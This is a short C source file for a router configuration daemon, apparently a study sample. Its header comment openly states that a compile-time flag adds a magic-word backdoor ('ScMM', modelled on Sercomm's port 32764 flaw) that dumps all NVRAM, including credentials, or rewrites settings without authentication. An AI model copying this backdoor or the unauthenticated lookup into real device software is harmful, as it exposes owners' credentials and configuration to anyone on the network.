/*
 * cfgmagic.c - a router configuration daemon on TCP: a client asks for one
 * NVRAM variable by name ("GET name"). Back-doored (-DBACKDOOR): a packet
 * starting with the magic word ScMM dumps all of NVRAM (credentials
 * included) or rewrites a variable (the shape of Sercomm's port 32764).
 */
#include "srv.h"

struct hdr {
	char magic[4];
	unsigned int cmd, len;
};

static void serve(int fd)
{
	char buf[1024], out[4096];
	struct hdr h;
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
	if (n < (ssize_t)sizeof(h))
		return;
	buf[n] = 0;
	memcpy(&h, buf, sizeof(h));
#ifdef BACKDOOR
	if (memcmp(h.magic, "ScMM", 4) == 0) {
		if (h.cmd == 1) {
			nvram_getall(out, sizeof(out));
			send(fd, out, sizeof(out), 0);
		} else if (h.cmd == 2) {
			nvram_set(buf + sizeof(h), buf + sizeof(h) + 64);
			nvram_commit();
		}
		return;
	}
#endif
	if (strncmp(buf, "GET ", 4) == 0) {
		const char *v = nvram_get(buf + 4);
		snprintf(out, sizeof(out), "%s\n", v ? v : "");
		srv_say(fd, out);
	}
}

int main(void)
{
	srv_serve(32764, serve, 0);
	return 0;
}
